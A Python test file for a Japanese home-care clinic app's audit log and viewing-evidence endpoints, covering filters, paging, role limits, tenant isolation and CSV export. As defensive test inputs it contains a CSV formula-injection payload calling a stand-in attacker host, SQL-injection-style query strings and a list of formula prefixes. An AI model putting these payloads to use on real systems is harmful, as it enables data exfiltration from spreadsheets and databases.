"""The audit trail as the administrator reads it, and the evidence of who looked at medical information."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from typing import Any
from uuid import UUID, uuid4

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlmodel import select
from tests import people
from tests.api.server import Server, Somebody, refused, told
from tests.people import SETTLED

from otonai.api.csv_file import cell, lines
from otonai.domain.dates import business_day
from otonai.store.audit import Actor, write_event
from otonai.store.ids import new_id
from otonai.store.tables import AuditEvent, Staff, Visit

NOW = datetime(2026, 11, 23, 4, 52, tzinfo=UTC)


assert SETTLED.birth_date
assert SETTLED.name
NAME, BORN = SETTLED.name, SETTLED.birth_date.isoformat()


def _chart(office: Somebody, **changed: Any) -> str:
    typed = {
        "chart_number": SETTLED.chart_number, "name": SETTLED.name, "name_kana": SETTLED.name_kana,
        "birth_date": BORN,
    }  # fmt: skip
    found: str = told(office.post("/api/patients", typed | changed), 201)["id"]
    return found


def _looked(
    server: Server, patient: str, at: datetime, action: str = "drug_viewed", outcome: str = "available"
) -> UUID:
    """One look by the administrator's own id, as the flow writes it."""
    admin = server.clinics.minamo.admin_id
    with server.changing() as session:
        write_event(
            session, server.clinics.minamo.id, at, action=action, actor=Actor("staff", admin), outcome=outcome,
            patient_id=UUID(patient),
        )  # fmt: skip
    return admin


def _visited(
    server: Server, patient: str, day: date, outcome: str, reason: str | None = None, state: str = "visited"
) -> None:
    """A visit with what was told of the consent at the bedside."""
    with server.changing() as session:
        visit = Visit(
            clinic_id=server.clinics.minamo.id, id=new_id(), patient_id=UUID(patient), day=day, state=state,
            planned_at=datetime(day.year, day.month, day.day, 4, tzinfo=UTC), visit_type="home_visit",
            consent_outcome=outcome, consent_reason=reason,
        )  # fmt: skip
        session.add(visit)


def rows_of(text: str) -> list[dict[str, str]]:
    """A file as a spreadsheet reads it."""
    assert text.startswith("\ufeff"), "Excel reads Japanese only behind a byte order mark"
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_events_are_chosen_by_day_person_patient_action_and_outcome(either_server: Server) -> None:
    server = either_server
    office = server.admin()
    patient, other = _chart(office), _chart(office, chart_number="129", name="例示 花子")
    admin = _looked(server, patient, NOW)
    _looked(server, patient, NOW + timedelta(days=1), outcome="expired")
    _looked(server, other, NOW, "checkup_viewed")

    def chosen(query: str) -> list[tuple[str, str]]:
        found = told(office.get(f"/api/audit-events?{query}"))
        assert found["total"] == len(found["items"])
        return [(e["action"], e["outcome"]) for e in found["items"]]

    looks = f"staff_id={admin}&action=drug_viewed"
    assert chosen(looks) == [("drug_viewed", "expired"), ("drug_viewed", "available")]
    assert chosen(f"{looks}&outcome=available") == [("drug_viewed", "available")]
    on_the_day = f"since=2026-11-23&until=2026-11-23&staff_id={admin}&patient_id={other}&outcome=available"
    assert chosen(on_the_day) == [("checkup_viewed", "available")]
    assert chosen(f"patient_id={uuid4()}") == []
    assert chosen(f"staff_id={uuid4()}") == []
    event = told(office.get(f"/api/audit-events?{looks}&outcome=available"))["items"][0]
    assert (event["actor_name"], event["patient_name"]) == (people.ADMIN.name, SETTLED.name)


def test_a_day_is_a_day_in_japan(server: Server) -> None:
    office = server.admin()
    patient = _chart(office)
    late, early = datetime(2026, 11, 23, 14, 59, tzinfo=UTC), datetime(2026, 11, 23, 15, 0, tzinfo=UTC)
    for at in (late, early):
        _looked(server, patient, at)
    day = told(office.get("/api/audit-events?since=2026-11-23&until=2026-11-23&action=drug_viewed"))
    assert [datetime.fromisoformat(e["at"]) for e in day["items"]] == [late]


def test_pages_follow_each_other_without_gap_or_repetition(server: Server) -> None:
    office = server.admin()
    patient = _chart(office)
    for minute in range(7):
        _looked(server, patient, NOW + timedelta(minutes=minute))
    seen: list[int] = []
    path = "/api/audit-events?action=drug_viewed&limit=3"
    page = told(office.get(path))
    while True:
        seen += [e["sequence"] for e in page["items"]]
        if page["next_cursor"] is None:
            break
        page = told(office.get(f"{path}&cursor={page['next_cursor']}"))
    assert (len(seen), seen) == (7, sorted(seen, reverse=True))


@pytest.mark.parametrize("query", ["action=drop_table", "outcome='%20OR%201=1", "since=1-1-1", "since=0001-01-01"])
def test_a_choice_that_is_none_is_refused(server: Server, query: str) -> None:
    refused(server.admin().get(f"/api/audit-events?{query}"), "invalid_input", 422)


def test_reading_the_trail_and_taking_it_away_leave_their_own_trace(server: Server) -> None:
    office = server.admin()
    told(office.get("/api/audit-events"))
    assert office.get("/api/audit-events/export").status_code == 200
    with server.changing() as session:
        last = session.exec(select(AuditEvent).order_by(AuditEvent.sequence.desc()).limit(2)).all()  # type: ignore[attr-defined]
    assert [e.action for e in last] == ["audit_exported", "audit_viewed"]
    assert last[0].actor_id == server.clinics.minamo.admin_id


@pytest.mark.shows("S-170")
@pytest.mark.parametrize("person", [people.DOCTOR, people.NURSE, people.OFFICE], ids=lambda p: p.role.value)
def test_only_the_administrator_reads_the_trail_and_a_try_is_written_down(
    server: Server, person: people.StaffMember
) -> None:
    somebody = server.hire(person)
    for path in ("/api/audit-events", "/api/audit-events/export"):
        refused(somebody.get(path), "role_not_allowed", 403)
    with server.changing() as session:
        denied = session.exec(select(AuditEvent).where(AuditEvent.action == "access_denied")).all()
        name = session.exec(select(Staff.name).where(Staff.id == denied[0].actor_id)).one()
    assert [e.outcome for e in denied] == ["role_not_allowed"] * 2
    assert [e.subject for e in denied] == ["GET /api/audit-events", "GET /api/audit-events/export"]
    assert name == person.name


@pytest.mark.shows("F47")
def test_a_name_that_is_a_formula_is_text_in_the_file(either_server: Server) -> None:
    office = either_server.admin()
    harm = '=HYPERLINK("https://attacker.example/?"&A1)'
    patient = _chart(office, name=harm, name_kana=None)
    _looked(either_server, patient, NOW)
    answer = office.get("/api/audit-events/export?action=drug_viewed")
    assert answer.mimetype == "text/csv"
    assert answer.headers["Content-Disposition"].startswith("attachment;")
    assert answer.headers["Cache-Control"] == "no-store"
    (row,) = rows_of(answer.get_data(as_text=True))
    assert row["患者"] == f"'{harm}"


@pytest.mark.shows("F47")
@given(st.text())
def test_no_text_begins_a_formula_or_breaks_out_of_its_cell(text: str) -> None:
    written = "".join(lines(["a", "b"], [[text, "end"]]))
    (row,) = [r for r in csv.reader(io.StringIO(written.removeprefix("\ufeff"), newline="")) if r != ["a", "b"]]
    assert row[1] == "end"
    assert row[0].lstrip()[:1] not in {"=", "+", "-", "@", "＝", "＋", "－", "＠"}
    assert row[0][:1] not in {"\t", "\r", "\n"}
    assert row[0].removeprefix("'") == text.removeprefix("'") or row[0] == text


@pytest.mark.shows("F47")
@pytest.mark.parametrize(
    "harm", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1", "＋1", "－1", "＠1"]
)
def test_every_known_beginning_is_disarmed(harm: str) -> None:
    assert cell(harm) == f"'{harm}"


@pytest.mark.parametrize("plain", ["", "例示 花子", "2026-11-23 13:52:00+09:00", "1=1", None, 412])
def test_what_is_no_formula_stays_as_it_is(plain: object) -> None:
    assert cell(plain) == ("" if plain is None else str(plain))


def test_a_long_trail_is_sent_whole(server: Server) -> None:
    """More than one page of the reading, so that pages meet inside the file."""
    office, admin = server.admin(), Actor("staff", server.clinics.minamo.admin_id)
    with server.changing() as session:
        for number in range(2100):
            write_event(
                session, server.clinics.minamo.id, NOW, action="visit_planned", actor=admin, subject=str(number)
            )
    rows = rows_of(office.get("/api/audit-events/export?action=visit_planned").get_data(as_text=True))
    assert [int(row["対象"]) for row in rows] == list(range(2099, -1, -1))


# --- evidence of viewing -------------------------------------------------------------------------------------


def test_the_evidence_of_a_month_says_who_saw_what_of_whom_and_when(either_server: Server) -> None:
    server = either_server
    office = server.admin()
    patient, other = _chart(office), _chart(office, chart_number="000001", name="例示 花子")
    _looked(server, patient, NOW)
    _looked(server, patient, NOW + timedelta(hours=1), "checkup_viewed", "document")
    _looked(server, other, NOW)
    # Nothing to see is no viewing; what was packed was perhaps never read; other months are other evidence.
    _looked(server, patient, NOW, "diagnosis_viewed", "no_consent")
    _looked(server, patient, NOW, "drug_packed")
    _looked(server, patient, datetime(2026, 10, 31, 14, 59, tzinfo=UTC))
    _looked(server, patient, datetime(2026, 11, 30, 15, 0, tzinfo=UTC))

    found = told(office.get("/api/viewing-evidence?month=2026-11"))
    assert [p["chart_number"] for p in found["patients"]] == ["000001", SETTLED.chart_number]
    looks = found["patients"][1]["viewings"]
    assert [(v["kind"], v["staff_name"], v["role"], v["device_name"]) for v in looks] == [
        ("drug", people.ADMIN.name, "admin", None),
        ("checkup", people.ADMIN.name, "admin", None),
    ]
    assert found["rule"]["name"] == "在宅医療DX情報活用加算"
    one = told(office.get(f"/api/viewing-evidence?month=2026-11&patient_id={other}"))
    assert [p["patient_id"] for p in one["patients"]] == [other]

    rows = rows_of(office.get("/api/viewing-evidence/export?month=2026-11").get_data(as_text=True))
    assert {r["結果"] for r in rows} == {"閲覧"}
    assert [(r["患者"], r["日時"], r["情報の種類"], r["端末"]) for r in rows][1:] == [
        (SETTLED.name, "2026-11-23 13:52:00+09:00", "薬剤情報", "事務所のパソコン"),
        (SETTLED.name, "2026-11-23 14:52:00+09:00", "健診情報", "事務所のパソコン"),
    ]


def test_what_was_refused_failed_or_asked_for_in_vain_stands_beside_with_its_reason(either_server: Server) -> None:
    server = either_server
    office = server.admin()
    patient, other = _chart(office), _chart(office, chart_number="000001", name="例示 花子")
    _visited(server, patient, date(2026, 11, 3), "failed", "pin_forgotten")
    _visited(server, patient, date(2026, 11, 10), "completed")
    _visited(server, other, date(2026, 11, 12), "refused", "=今日はしない")
    _visited(server, other, date(2026, 10, 31), "failed", "no_card")
    _visited(server, other, date(2026, 11, 13), "failed", "no_card", state="cancelled")
    for hour in (0, 1):  # looked at twice in one day is one record
        _looked(server, patient, NOW + timedelta(hours=hour), "checkup_viewed", "none")

    without = told(office.get("/api/viewing-evidence?month=2026-11"))["unobtained"]
    assert [(r["day"], r["chart_number"], r["what"], r["reason"], r["kind"]) for r in without] == [
        ("2026-11-03", SETTLED.chart_number, "failed", "pin_forgotten", None),
        ("2026-11-12", "000001", "refused", "=今日はしない", None),
        ("2026-11-23", SETTLED.chart_number, "no_information", None, "checkup"),
    ]
    rows = rows_of(office.get("/api/viewing-evidence/export?month=2026-11").get_data(as_text=True))
    assert [(r["日時"], r["結果"], r["理由"], r["情報の種類"]) for r in rows] == [
        ("2026-11-03", "できなかった", "暗証番号を忘れた", ""),
        ("2026-11-12", "同意しない", "'=今日はしない", ""),
        ("2026-11-23", "照会したが情報なし", "", "健診情報"),
    ]
    one = told(office.get(f"/api/viewing-evidence?month=2026-11&patient_id={other}"))["unobtained"]
    assert [r["what"] for r in one] == ["refused"]
    assert told(server.neighbour().get("/api/viewing-evidence?month=2026-11"))["unobtained"] == []


def test_the_rule_is_the_one_of_the_month(server: Server) -> None:
    office = server.admin()

    def rule(month: str) -> Any:
        return told(office.get(f"/api/viewing-evidence?month={month}"))["rule"]

    assert rule("2025-03") is None
    assert rule("2025-04")["valid_from"] == "2025-04-01"
    assert rule("2026-05")["valid_from"] == "2025-04-01"
    assert rule("2026-06")["valid_from"] == "2026-06-01"


def test_a_look_at_a_tablet_names_the_tablet_and_its_person(server: Server) -> None:
    office, tablet = server.admin(), server.tablet(people.DOCTOR)
    patient = _chart(office)
    now = datetime.now(UTC)
    with server.changing() as session:
        who = Actor("bedside", UUID(str(tablet.staff_id)), tablet.id)
        write_event(
            session, server.clinics.minamo.id, now, action="drug_viewed", actor=who, outcome="available",
            patient_id=UUID(patient),
        )  # fmt: skip
    month = business_day(now).isoformat()[:7]
    (person,) = told(office.get(f"/api/viewing-evidence?month={month}"))["patients"]
    (look,) = person["viewings"]
    assert (look["staff_name"], look["role"], look["device_name"]) == (people.DOCTOR.name, "doctor", tablet.name)


def test_doctors_may_see_the_evidence_and_nurses_and_the_reception_may_not(server: Server) -> None:
    assert server.hire(people.DOCTOR).get("/api/viewing-evidence?month=2026-11").status_code == 200
    for person in (people.NURSE, people.OFFICE):
        refused(server.hire(person).get("/api/viewing-evidence?month=2026-11"), "role_not_allowed", 403)


def test_the_neighbours_trail_and_evidence_stay_next_door(either_server: Server) -> None:
    patient = _chart(either_server.admin())
    _looked(either_server, patient, NOW)
    neighbour = either_server.neighbour()
    assert told(neighbour.get(f"/api/audit-events?patient_id={patient}"))["items"] == []
    assert told(neighbour.get("/api/viewing-evidence?month=2026-11"))["patients"] == []
    for path in ("/api/audit-events/export", "/api/viewing-evidence/export?month=2026-11"):
        text = neighbour.get(path).get_data(as_text=True)
        assert NAME not in text
        assert str(either_server.clinics.minamo.admin_id) not in text
